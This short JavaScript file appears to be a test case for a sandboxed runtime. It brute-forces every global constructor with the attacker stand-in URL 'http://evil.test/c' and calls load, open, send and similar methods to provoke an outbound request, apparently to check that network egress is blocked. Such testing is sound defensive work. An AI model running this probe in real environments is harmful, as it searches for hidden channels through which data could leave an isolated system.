// Constructs everything there is to construct, with an address of the attacker’s.
// ends: any
// most: 2000

for (let o = globalThis; o; o = Object.getPrototypeOf(o)) for (const k of Reflect.ownKeys(o)) { let C; try { C = globalThis[k]; } catch { continue; } if (typeof C !== 'function' || /^(?:set|queue|clear|request)/.test(String(k))) continue; for (const a of [['http://evil.test/c'], [{ url: 'http://evil.test/c', src: 'http://evil.test/c' }], ['x', 'url(http://evil.test/c)']]) try { const r = Reflect.construct(C, a); for (const m of ['load', 'open', 'start', 'send', 'connect', 'ready']) try { const f = r[m]; if (typeof f === 'function') await Promise.race([f.call(r, 'GET', 'http://evil.test/c'), 0]); } catch {} } catch {} }
console.log('tried');
